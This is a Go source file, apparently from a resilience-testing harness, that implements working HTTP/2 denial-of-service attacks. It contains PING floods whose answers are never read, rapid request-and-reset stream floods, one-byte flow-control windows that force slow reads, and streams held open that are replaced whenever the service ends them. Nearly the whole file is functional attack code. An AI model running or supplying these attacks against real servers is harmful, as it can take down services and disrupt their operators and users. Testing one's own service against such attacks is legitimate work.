package attack

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"strconv"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streamsPerConnection is the number of streams that net/http allows on one connection.
const streamsPerConnection = 250

// http2Request describes the requests of an attack over HTTP/2.
type http2Request struct {
	method, path string
	fields       []hpack.HeaderField
	part         string // the beginning of a body that never ends; "" for a request without a body
	window       uint32 // how many bytes of each response the client accepts
}

// http2Conn is a connection on which an attacker keeps streams open.
type http2Conn struct {
	attacker *attacker
	conn     *tls.Conn
	slots    chan struct{} // one element for each open stream
	mu       sync.Mutex    // guards the fields below
	framer   *http2.Framer
	encoder  *hpack.Encoder
	block    bytes.Buffer
	last     uint32 // the id of the newest stream
}

// pingsAtOnce is how many PING frames an attacker sends at once. Without a limit of its own, the service would close the
// connection only after 10,000 frames whose answers are not read.
const pingsAtOnce = 9900

// unreadPings opens connections, sends PING frames on each of them, and does not read the answers. It replaces each
// connection that the service closes.
func unreadPings(a *attacker) {
	var first, next bytes.Buffer
	first.WriteString(http2.ClientPreface)
	http2.NewFramer(&first, nil).WriteSettings()
	for range pingsAtOnce {
		http2.NewFramer(&first, nil).WritePing(false, [8]byte{})
	}
	http2.NewFramer(&next, nil).WritePing(false, [8]byte{})
	a.repeat(950, 100, func() {
		raw := a.dial()
		if raw == nil {
			return
		}
		defer raw.Close()
		raw.(*net.TCPConn).SetReadBuffer(2 << 10) // a small buffer keeps the service from sending many answers
		conn := tls.Client(raw, a.tlsConfig("h2"))
		a.sent()
		for _, err := conn.Write(first.Bytes()); err == nil; _, err = conn.Write(next.Bytes()) {
			a.sleep(100 * time.Millisecond)
		}
		a.failed()
	})
}

// resetRequests sends requests on many connections and resets each of them at once.
func resetRequests(a *attacker) {
	a.repeat(200, 50, func() {
		c := a.connectHTTP2(1)
		if c == nil {
			return
		}
		defer c.conn.Close()
		for range streamsPerConnection {
			if c.open(http2Request{method: "GET", path: "/livez"}) != nil || c.framer.WriteRSTStream(c.last, http2.ErrCodeCancel) != nil {
				a.failed()
				return
			}
		}
	})
}

// resetStreams sends requests without a pause on 20 connections and resets each of them at once. It replaces each
// connection that the service closes.
func resetStreams(a *attacker) {
	a.repeat(20, 0, func() {
		c := a.connectHTTP2(1)
		if c == nil {
			return
		}
		defer c.conn.Close()
		go c.read()
		for c.open(http2Request{method: "GET", path: "/v1/pets"}) == nil {
			c.write(func(f *http2.Framer) error { return f.WriteRSTStream(c.last, http2.ErrCodeCancel) })
		}
		a.failed()
	})
}

// byteSizedWindows requests large pages on 5 connections and accepts them byte by byte. It replaces each connection that
// the service closes.
func byteSizedWindows(a *attacker) {
	const streams = 20
	a.repeat(5, 0, func() {
		c := a.connectHTTP2(streams, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if c == nil {
			return
		}
		defer c.conn.Close()
		closed := make(chan struct{})
		go func() {
			defer close(closed)
			c.read()
		}()
		for range streams {
			if c.open(http2Request{method: "GET", path: reference}) != nil {
				a.failed()
				return
			}
		}
		for stream := uint32(1); ; stream = (stream + 2) % (2 * streams) {
			select {
			case <-closed:
				a.failed()
				return
			default:
				c.write(func(f *http2.Framer) error { return f.WriteWindowUpdate(stream, 1) })
			}
		}
	})
}

// holdStreams opens a connection and keeps the given number of streams open on it until the service closes the
// connection or the attack ends. It replaces each stream that the service ends.
func (a *attacker) holdStreams(streams int, r http2Request) {
	c := a.connectHTTP2(streams, http2.Setting{ID: http2.SettingInitialWindowSize, Val: r.window})
	if c == nil {
		return
	}
	defer c.conn.Close()
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		c.read()
	}()
	for {
		select {
		case <-closed:
			a.failed()
			return
		case c.slots <- struct{}{}:
			if c.open(r) != nil {
				a.failed()
				return
			}
		}
	}
}

// connectHTTP2 opens a connection and sends the frames with which every client begins. It returns nil if that fails.
func (a *attacker) connectHTTP2(streams int, settings ...http2.Setting) *http2Conn {
	raw := a.dial()
	if raw == nil {
		return nil
	}
	c := &http2Conn{attacker: a, conn: tls.Client(raw, a.tlsConfig("h2")), slots: make(chan struct{}, streams)}
	c.framer, c.encoder = http2.NewFramer(c.conn, c.conn), hpack.NewEncoder(&c.block)
	_, err := io.WriteString(c.conn, http2.ClientPreface)
	if err == nil {
		err = c.framer.WriteSettings(settings...)
	}
	if err != nil {
		c.conn.Close()
		a.failed()
		return nil
	}
	return c
}

// open opens the next stream.
func (c *http2Conn) open(r http2Request) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.last++; c.last%2 == 0 {
		c.last++ // a client's streams have odd ids
	}
	c.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: r.method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: c.attacker.Address}, {Name: ":path", Value: r.path},
	}, r.fields...) {
		if err := c.encoder.WriteField(field); err != nil {
			return err
		}
	}
	c.attacker.sent()
	err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.last, BlockFragment: c.block.Bytes(), EndHeaders: true, EndStream: r.part == ""})
	if err == nil && r.part != "" {
		err = c.framer.WriteData(c.last, false, []byte(r.part))
	}
	return err
}

// read reads frames until the connection ends. It acknowledges settings and pings, as the protocol requires, and
// counts the statuses of the responses.
func (c *http2Conn) read() {
	c.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				c.write((*http2.Framer).WriteSettingsAck)
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				c.write(func(framer *http2.Framer) error { return framer.WritePing(true, f.Data) })
			}
		case *http2.MetaHeadersFrame:
			status, _ := strconv.Atoi(f.PseudoValue("status"))
			c.attacker.received(status)
			c.ended(f.StreamEnded())
		case *http2.DataFrame:
			c.ended(f.StreamEnded())
		case *http2.RSTStreamFrame:
			c.ended(true)
		}
	}
}

// write writes a frame in reply to a frame from the service. If that fails, it closes the connection, so that read
// ends, too.
func (c *http2Conn) write(frame func(*http2.Framer) error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if frame(c.framer) != nil {
		c.conn.Close()
	}
}

// ended frees a slot for another stream if over is true. It does not block if no slot is taken, because it is called
// twice for a stream that ends both with a response and with a reset.
func (c *http2Conn) ended(over bool) {
	if over {
		c.attacker.sleep(streamPause)
		select {
		case <-c.slots:
		default:
		}
	}
}
